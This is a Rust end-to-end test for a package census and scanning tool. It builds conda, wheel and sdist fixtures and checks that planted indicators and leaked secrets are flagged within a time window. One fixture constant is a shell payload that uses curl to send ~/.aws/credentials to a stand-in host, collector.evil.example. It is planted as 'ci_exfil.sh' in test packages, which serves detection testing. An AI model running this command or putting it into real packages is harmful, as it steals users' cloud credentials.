//! End-to-end census over REAL package files built by the real tools:
//! conda-package-handling (`.conda`, `.tar.bz2`), `pip wheel` (wheels) and
//! `python -m build` (sdists), indexed by a conda channel (repodata.json per
//! subdir), a PyPI JSON API export and a JSON Lines list.
//!
//! Needs `FIREBREAK_CENSUS_PYTHON` (scripts/setup.d/50-conda-tools.sh).

use firebreak_census::index::IndexKind;
use firebreak_census::ioc::IocSet;
use firebreak_census::{run, ArtifactRecord, CensusOptions, CensusReport, Finding, Status};
use firebreak_core::{Exit, TimeWindow};
use firebreak_scan::{RuleSet, ScanOptions, Scanner};
use serde_json::json;
use sha2::{Digest, Sha256};
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

const WINDOW: &str = "2022-12-19T00:00:00Z..2023-01-13T00:00:00Z";
const IN: &str = "2022-12-25T10:00:00Z";
const IN2: &str = "2023-01-12T23:59:59Z";
const BEFORE: &str = "2022-12-18T23:59:59Z";
const AFTER: &str = "2023-01-13T00:00:00Z"; // the end is exclusive
const PAYLOAD: &str = "#!/bin/sh\ncurl -s https://collector.evil.example/u -d @~/.aws/credentials\n";
const MEMBER_BLOB: &str = "IMPLANT = \"known-bad implant v1\"\n";

/// A fake AWS access key id built at run time (never a literal in the source).
fn fake_key() -> String {
    let h = hex::encode(Sha256::digest(b"firebreak census test key")).to_ascii_uppercase();
    let body: String = h.chars().filter(|c| c.is_ascii_alphanumeric()).take(16).collect();
    format!("AKIA{body}")
}

fn python() -> PathBuf {
    match std::env::var_os("FIREBREAK_CENSUS_PYTHON") {
        Some(p) if Path::new(&p).exists() => PathBuf::from(p),
        _ => panic!(
            "FIREBREAK_CENSUS_PYTHON is not set or does not exist: run scripts/setup.d/50-conda-tools.sh \
             and `source .tools/env.d/census.sh` (scripts/test does both)"
        ),
    }
}

fn write(p: &Path, text: &str) {
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn ms(t: &str) -> i64 {
    firebreak_core::window::parse_time(t).unwrap().timestamp_millis()
}

fn sha(p: &Path) -> String {
    hex::encode(Sha256::digest(std::fs::read(p).unwrap()))
}

struct Fixture {
    root: PathBuf,
    channel: PathBuf,
    pypi: PathBuf,
    jsonl: PathBuf,
    ioc: PathBuf,
}

/// Conda package sources: (subdir, file name, files).
type CondaSpec = (&'static str, &'static str, Vec<(&'static str, String)>);

fn conda_specs() -> Vec<CondaSpec> {
    vec![
        (
            "noarch",
            "clean-1.0-py_0.conda",
            vec![("site-packages/clean/__init__.py", "X = 1\n".into())],
        ),
        (
            "noarch",
            "dropper-1.0-py_0.tar.bz2",
            vec![
                ("site-packages/dropper/__init__.py", "\n".into()),
                ("info/recipe/ci_exfil.sh", PAYLOAD.into()),
            ],
        ),
        (
            "linux-64",
            "leaky-2.1-h0_0.conda",
            vec![(
                "lib/leaky/config.py",
                format!("aws_access_key_id = {}\n", fake_key()),
            )],
        ),
        (
            "linux-64",
            "implant-0.3-0.conda",
            vec![("bin/helper.bin", MEMBER_BLOB.into())],
        ),
        (
            "linux-64",
            "old-dropper-0.1-0.tar.bz2",
            vec![
                ("info/recipe/ci_exfil.sh", PAYLOAD.into()),
                ("lib/config.py", format!("aws_access_key_id = {}\n", fake_key())),
            ],
        ),
        (
            "linux-64",
            "late-dropper-0.2-0.conda",
            vec![("info/recipe/ci_exfil.sh", PAYLOAD.into())],
        ),
        (
            "linux-64",
            "swapped-1.0-0.conda",
            vec![("lib/swapped.txt", "v1\n".into())],
        ),
        (
            "linux-64",
            "legacy-1.0-0.tar.bz2",
            vec![("lib/legacy.txt", "seconds\n".into())],
        ),
        (
            "linux-64",
            "truncated-1.0-0.tar.bz2",
            vec![("lib/t.txt", "x".repeat(4000))],
        ),
    ]
}

fn py_project(dir: &Path, name: &str, version: &str, extra: &[(&str, &str)]) {
    write(
        &dir.join("pyproject.toml"),
        &format!(
            "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n\n\
             [project]\nname = \"{name}\"\nversion = \"{version}\"\n\n[tool.setuptools.packages.find]\nwhere = [\"src\"]\n"
        ),
    );
    write(&dir.join(format!("src/{name}/__init__.py")), "\n");
    for (rel, text) in extra {
        write(&dir.join(rel), text);
    }
}

fn fixture() -> &'static Fixture {
    static F: OnceLock<Fixture> = OnceLock::new();
    F.get_or_init(build_fixture)
}

fn build_fixture() -> Fixture {
    let py = python();
    let root = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("census-real-packages");
    let _ = std::fs::remove_dir_all(&root);
    let src = root.join("src");
    let channel = root.join("channel");
    let pypi = root.join("pypi");
    let files = root.join("files");
    let mut jobs = Vec::new();
    for (sub, file, members) in conda_specs() {
        let base = file.trim_end_matches(".conda").trim_end_matches(".tar.bz2");
        let mut parts = base.rsplitn(3, '-');
        let (build, version, name) = (
            parts.next().unwrap(),
            parts.next().unwrap(),
            parts.next().unwrap(),
        );
        let d = src.join(base);
        write(
            &d.join("info/index.json"),
            &json!({"name": name, "version": version, "build": build, "build_number": 0, "subdir": sub, "depends": []})
                .to_string(),
        );
        for (rel, text) in &members {
            write(&d.join(rel), text);
        }
        jobs.push(json!({"tool": "conda", "src": d, "out": channel.join(sub).join(file)}));
    }
    // Python distributions: 0.1 (outside the window) and 0.2 (inside, with a planted
    // string and an indicator member), and a separate sdist listed by JSON Lines.
    let p01 = src.join("pyx-0.1");
    py_project(
        &p01,
        "pyx",
        "0.1",
        &[("src/pyx/net.py", "URL = 'https://collector.evil.example/u'\n")],
    );
    let p02 = src.join("pyx-0.2");
    py_project(
        &p02,
        "pyx",
        "0.2",
        &[
            ("src/pyx/net.py", "URL = 'https://collector.evil.example/u'\n"),
            ("src/pyx/implant.py", MEMBER_BLOB),
        ],
    );
    let key_line = format!("TOKEN_ID = '{}'\n", fake_key());
    let tool = src.join("tool-3.0");
    py_project(&tool, "tool", "3.0", &[("src/tool/settings.py", &key_line)]);
    jobs.push(json!({"tool": "wheel", "src": p01, "out": pypi}));
    jobs.push(json!({"tool": "wheel", "src": p02, "out": pypi}));
    jobs.push(json!({"tool": "sdist", "src": p02, "out": pypi}));
    jobs.push(json!({"tool": "sdist", "src": tool, "out": files}));
    let jobs_file = root.join("jobs.json");
    write(&jobs_file, &serde_json::to_string(&jobs).unwrap());
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../testdata/census/make_packages.py");
    let out = std::process::Command::new(&py)
        .arg(&script)
        .arg(&jobs_file)
        .output()
        .expect("run make_packages.py");
    assert!(
        out.status.success(),
        "make_packages.py failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );

    // Corrupt a real package: keep only the first half of a real .tar.bz2.
    let t = channel.join("linux-64/truncated-1.0-0.tar.bz2");
    let bytes = std::fs::read(&t).unwrap();
    std::fs::write(&t, &bytes[..bytes.len() / 2]).unwrap();

    // repodata.json per subdir.
    let times: BTreeMap<&str, serde_json::Value> = [
        ("clean-1.0-py_0.conda", json!(ms(IN))),
        ("dropper-1.0-py_0.tar.bz2", json!(ms(IN2))),
        ("leaky-2.1-h0_0.conda", json!(ms(IN))),
        ("implant-0.3-0.conda", json!(ms(IN))),
        ("old-dropper-0.1-0.tar.bz2", json!(ms(BEFORE))),
        ("late-dropper-0.2-0.conda", json!(ms(AFTER))),
        ("swapped-1.0-0.conda", json!(ms(IN))),
        ("legacy-1.0-0.tar.bz2", json!(ms(IN) / 1000)), // seconds, as in old entries
        ("truncated-1.0-0.tar.bz2", json!(ms(IN))),
        ("vanished-1.0-0.conda", json!(ms(IN))),
    ]
    .into_iter()
    .collect();
    for sub in ["noarch", "linux-64"] {
        let mut packages = serde_json::Map::new();
        let mut packages_conda = serde_json::Map::new();
        for (file, ts) in &times {
            let p = channel.join(sub).join(file);
            let listed = p.exists() || (sub == "linux-64" && *file == "vanished-1.0-0.conda");
            if !listed {
                continue;
            }
            let name = file.split('-').next().unwrap();
            let mut rec =
                json!({"name": name, "version": "1.0", "build": "0", "timestamp": ts, "depends": []});
            if p.exists() {
                rec["size"] = json!(std::fs::metadata(&p).unwrap().len());
                rec["sha256"] = json!(sha(&p));
            } else {
                rec["sha256"] = json!("0".repeat(64));
            }
            if *file == "swapped-1.0-0.conda" {
                rec["sha256"] = json!("e".repeat(64));
            }
            if *file == "truncated-1.0-0.tar.bz2" {
                // The index matches the (truncated) file: only the content is broken.
                rec["size"] = json!(std::fs::metadata(&p).unwrap().len());
            }
            if file.ends_with(".conda") {
                packages_conda.insert(file.to_string(), rec);
            } else {
                packages.insert(file.to_string(), rec);
            }
        }
        write(
            &channel.join(sub).join("repodata.json"),
            &json!({"info": {"subdir": sub}, "packages": packages, "packages.conda": packages_conda})
                .to_string(),
        );
    }

    // PyPI JSON API export (`/pypi/pyx/json`), files next to it.
    let pfile = |f: &str, t: &str| {
        let p = pypi.join(f);
        json!({
            "filename": f,
            "packagetype": if f.ends_with(".whl") { "bdist_wheel" } else { "sdist" },
            "size": std::fs::metadata(&p).unwrap().len(),
            "digests": {"sha256": sha(&p)},
            "upload_time_iso_8601": t,
            "url": format!("https://files.example.invalid/{f}"),
        })
    };
    let r01 = vec![pfile("pyx-0.1-py3-none-any.whl", "2022-10-01T00:00:00.000000Z")];
    let r02 = vec![
        pfile("pyx-0.2-py3-none-any.whl", "2023-01-02T03:04:05.678901Z"),
        pfile("pyx-0.2.tar.gz", "2023-01-02T03:04:00.000000Z"),
    ];
    write(
        &pypi.join("json"),
        &json!({"info": {"name": "pyx", "version": "0.2"}, "releases": {"0.1": r01, "0.2": r02.clone()}, "urls": r02})
            .to_string(),
    );

    // JSON Lines: a local sdist (inside), a remote one (inside), one outside, one malformed.
    let sdist = files.join("tool-3.0.tar.gz");
    let jsonl = root.join("uploads.jsonl");
    let lines = [
        json!({"name": "tool", "uploaded_at": IN, "path": "files/tool-3.0.tar.gz", "sha256": sha(&sdist)}).to_string(),
        json!({"name": "tool", "uploaded_at": BEFORE, "path": "files/tool-2.0.tar.gz"}).to_string(),
        json!({"name": "remote", "uploaded_at": IN, "url": "https://registry.example.invalid/remote-1.0.tgz"}).to_string(),
        "{\"name\": \"broken\", \"uploaded_at\": ".to_string(),
    ];
    write(&jsonl, &(lines.join("\n") + "\n"));

    // Indicators.
    let member_sha = hex::encode(Sha256::digest(MEMBER_BLOB.as_bytes()));
    let ioc = root.join("ioc.toml");
    write(
        &ioc,
        &format!(
            "name = \"test\"\nfile_names = [\"ci_exfil.sh\"]\nmember_sha256 = [\"{member_sha}\"]\n\
             artifact_sha256 = [{{ value = \"{}\", description = \"known bad sdist\" }}]\n\
             strings = [\"collector.evil.example\"]\n",
            sha(&sdist).to_ascii_uppercase()
        ),
    );
    Fixture {
        root,
        channel,
        pypi,
        jsonl,
        ioc,
    }
}

fn census(ioc: bool, scan: bool) -> CensusReport {
    let f = fixture();
    let window: TimeWindow = WINDOW.parse().unwrap();
    let mut opts = CensusOptions::new(window);
    if ioc {
        opts.ioc = Some(IocSet::load(&f.ioc).unwrap());
    }
    if scan {
        opts.scanner = Some(Scanner::new(RuleSet::builtin().unwrap(), ScanOptions::default()));
    }
    run(&[f.channel.clone(), f.pypi.clone(), f.jsonl.clone()], &opts, None)
}

fn by_name(r: &CensusReport) -> BTreeMap<String, ArtifactRecord> {
    r.artifacts
        .iter()
        .map(|a| (a.artifact.clone(), a.clone()))
        .collect()
}

fn kinds(a: &ArtifactRecord) -> BTreeSet<&'static str> {
    a.findings.iter().map(|f| f.kind()).collect()
}

#[test]
fn finds_exactly_the_artifacts_inside_the_window() {
    let r = census(false, false);
    let names: BTreeSet<String> = r.artifacts.iter().map(|a| a.artifact.clone()).collect();
    let want: BTreeSet<String> = [
        "clean-1.0-py_0.conda",
        "dropper-1.0-py_0.tar.bz2",
        "leaky-2.1-h0_0.conda",
        "implant-0.3-0.conda",
        "swapped-1.0-0.conda",
        "legacy-1.0-0.tar.bz2",
        "truncated-1.0-0.tar.bz2",
        "vanished-1.0-0.conda",
        "pyx-0.2-py3-none-any.whl",
        "pyx-0.2.tar.gz",
        "tool-3.0.tar.gz",
        "remote-1.0.tgz",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    assert_eq!(names, want);
    // Outside: before the start, at the (exclusive) end, and the old PyPI/JSONL files.
    assert_eq!(r.summary.outside_window, 4, "{:?}", r.summary);
    let idx = &r.indexes;
    assert_eq!(idx[0].kind, Some(IndexKind::Conda));
    assert_eq!(idx[1].kind, Some(IndexKind::Pypi));
    assert_eq!(idx[2].kind, Some(IndexKind::Jsonl));
    // The malformed JSON Lines record is reported with file and line.
    assert_eq!(idx[2].problems.len(), 1);
    assert_eq!(idx[2].problems[0].line, Some(4));
    assert!(idx[2].problems[0].file.ends_with("uploads.jsonl"));

    let shape = r.conda_shape();
    assert_eq!(
        shape["noarch"],
        vec![
            "clean-1.0-py_0.conda".to_string(),
            "dropper-1.0-py_0.tar.bz2".to_string()
        ]
    );
    assert_eq!(shape["linux-64"].len(), 6);
    assert_eq!(shape["any"], vec!["pyx-0.2-py3-none-any.whl".to_string()]);
    assert_eq!(shape["source"], vec!["pyx-0.2.tar.gz".to_string()]);

    let a = by_name(&r);
    let legacy = &a["legacy-1.0-0.tar.bz2"];
    assert_eq!(
        legacy.uploaded_at.unwrap().to_rfc3339(),
        "2022-12-25T10:00:00+00:00"
    );
    assert_eq!(legacy.status, Status::Ok);
    assert_eq!(
        a["clean-1.0-py_0.conda"].checksum,
        firebreak_census::ChecksumState::Verified
    );
    assert_eq!(a["vanished-1.0-0.conda"].status, Status::Missing);
    assert_eq!(a["remote-1.0.tgz"].status, Status::Remote);
    assert_eq!(a["swapped-1.0-0.conda"].status, Status::ChecksumMismatch);
    assert_eq!(
        kinds(&a["swapped-1.0-0.conda"]),
        BTreeSet::from(["checksum_mismatch"])
    );
    let t = &a["truncated-1.0-0.tar.bz2"];
    assert_eq!(t.status, Status::Corrupt);
    assert!(
        t.error.as_deref().unwrap().contains("truncated-1.0-0.tar.bz2"),
        "{:?}",
        t.error
    );
    // Without --ioc/--scan nothing else is a finding; missing artifacts are only listed,
    // but the corrupt artifact and the malformed record make the run partial.
    assert_eq!(r.exit(), Exit::Partial);
    assert!(
        a["clean-1.0-py_0.conda"].members.unwrap() >= 3,
        "info/index.json, info/files, module"
    );
}

#[test]
fn indicators_and_secrets_are_found_in_every_format() {
    let r = census(true, true);
    let a = by_name(&r);
    // .tar.bz2 made by conda-package-handling: the planted file name and string.
    let d = &a["dropper-1.0-py_0.tar.bz2"];
    assert_eq!(
        kinds(d),
        BTreeSet::from(["ioc_file_name", "ioc_string"]),
        "{:?}",
        d.findings
    );
    assert!(d.findings.iter().any(|f| matches!(f,
        Finding::IocFileName { member: Some(m), .. } if m == "dropper-1.0-py_0.tar.bz2!info/recipe/ci_exfil.sh")));
    // .conda: the secret, found in the inner pkg-*.tar.zst, redacted and fingerprinted.
    let l = &a["leaky-2.1-h0_0.conda"];
    assert_eq!(kinds(l), BTreeSet::from(["secret"]), "{:?}", l.findings);
    let Finding::Secret(s) = &l.findings[0] else {
        unreachable!()
    };
    assert_eq!(s.rule_id, "aws.access_key_id");
    assert!(
        s.path
            .starts_with("leaky-2.1-h0_0.conda!pkg-leaky-2.1-h0_0.tar.zst!"),
        "{}",
        s.path
    );
    assert!(s.path.ends_with("lib/leaky/config.py"));
    assert_eq!(s.fingerprint, firebreak_core::fingerprint(fake_key().as_bytes()));
    // .conda: a member whose SHA-256 is an indicator.
    assert_eq!(
        kinds(&a["implant-0.3-0.conda"]),
        BTreeSet::from(["ioc_member_sha256"])
    );
    // Wheel (pip wheel) and sdist (python -m build): string + member hash.
    assert_eq!(
        kinds(&a["pyx-0.2-py3-none-any.whl"]),
        BTreeSet::from(["ioc_string", "ioc_member_sha256"])
    );
    let sd = &a["pyx-0.2.tar.gz"];
    assert_eq!(
        kinds(sd),
        BTreeSet::from(["ioc_string", "ioc_member_sha256"]),
        "{:?}",
        sd.findings
    );
    assert!(sd.findings.iter().any(|f| matches!(f,
        Finding::IocString { member, .. } if member == "pyx-0.2.tar.gz!pyx-0.2/src/pyx/net.py")));
    // JSON Lines sdist: whole-artifact hash indicator (written uppercase) + secret.
    assert_eq!(
        kinds(&a["tool-3.0.tar.gz"]),
        BTreeSet::from(["ioc_artifact_sha256", "secret"]),
        "{:?}",
        a["tool-3.0.tar.gz"].findings
    );
    // Clean and legacy packages stay clean.
    assert!(a["clean-1.0-py_0.conda"].findings.is_empty());
    assert!(a["legacy-1.0-0.tar.bz2"].findings.is_empty());
    // An intact artifact carrying an indicator or a secret is flagged, never "ok", and the
    // summary names each hit with its member
    for n in [
        "dropper-1.0-py_0.tar.bz2",
        "leaky-2.1-h0_0.conda",
        "implant-0.3-0.conda",
        "pyx-0.2.tar.gz",
    ] {
        assert_eq!(a[n].status, Status::Flagged, "{n}");
    }
    assert_eq!(a["clean-1.0-py_0.conda"].status, Status::Ok);
    let summary = r.summary_text();
    assert!(
        summary.contains("FLAGGED dropper-1.0-py_0.tar.bz2: file name ")
            && summary.contains("(member dropper-1.0-py_0.tar.bz2!info/recipe/ci_exfil.sh)"),
        "{summary}"
    );
    assert!(
        summary.contains("FLAGGED leaky-2.1-h0_0.conda: secret (aws.access_key_id)"),
        "{summary}"
    );
    assert!(summary.contains("flagged "), "{summary}");
    assert!(!summary.contains(&fake_key()));
    // Outside the window nothing was opened, however bad.
    assert!(!a.contains_key("old-dropper-0.1-0.tar.bz2"));
    assert!(!a.contains_key("late-dropper-0.2-0.conda"));
    assert!(!a.contains_key("pyx-0.1-py3-none-any.whl"));
    // Checks requested: missing, remote and corrupt artifacts make the run partial.
    assert_eq!(r.exit(), Exit::Partial);
    // The secret never appears whole in any output.
    let mut out = Vec::new();
    r.write_jsonl(&mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert!(
        !text.contains(&fake_key()),
        "secret printed whole in JSONL output"
    );
    assert!(!r.summary_text().contains(&fake_key()));
    assert!(!serde_json::to_string(&r).unwrap().contains(&fake_key()));
}

#[test]
fn clean_window_exits_zero_and_found_exits_one() {
    let f = fixture();
    // Only the noarch clean package is inside this window.
    let w: TimeWindow = "2022-12-25T10:00:00Z..2022-12-25T10:00:01Z".parse().unwrap();
    let mut opts = CensusOptions::new(w);
    opts.ioc = Some(IocSet::load(&f.ioc).unwrap());
    let noarch = f.channel.join("noarch");
    let r = run(std::slice::from_ref(&noarch), &opts, None);
    assert_eq!(r.artifacts.len(), 1);
    assert_eq!(r.exit(), Exit::Clean, "{}", r.summary_text());
    let w: TimeWindow = "2023-01-12..2023-01-13".parse().unwrap();
    let opts2 = CensusOptions { window: w, ..opts };
    let r = run(&[f.channel.join("noarch/repodata.json")], &opts2, None);
    assert_eq!(r.artifacts.len(), 1, "{:?}", r.artifacts);
    assert_eq!(r.exit(), Exit::Found);
}

#[test]
fn plain_directory_uses_mtimes_with_a_warning() {
    let f = fixture();
    let w: TimeWindow = "2000-01-01..".parse().unwrap();
    let opts = CensusOptions::new(w);
    let r = run(&[f.root.join("files")], &opts, None);
    assert_eq!(r.indexes[0].kind, Some(IndexKind::Dir));
    assert_eq!(r.artifacts.len(), 1);
    assert!(r.indexes[0].warnings[0].contains("weaker evidence"));
    assert!(r.artifacts[0]
        .warnings
        .iter()
        .any(|w| w.contains("modification time")));
    assert!(r.summary_text().contains("weaker evidence"));
}

#[test]
fn unreadable_index_is_an_input_error() {
    let f = fixture();
    let w: TimeWindow = WINDOW.parse().unwrap();
    let opts = CensusOptions::new(w);
    let r = run(&[f.root.join("no-such-index")], &opts, None);
    assert_eq!(r.exit(), Exit::Error);
    assert!(r.indexes[0].error.as_deref().unwrap().contains("no-such-index"));
    // One bad index among good ones: partial.
    let r = run(
        &[f.root.join("no-such-index"), f.channel.join("noarch")],
        &opts,
        None,
    );
    assert_eq!(r.exit(), Exit::Partial);
    assert_eq!(r.artifacts.len(), 2);
}
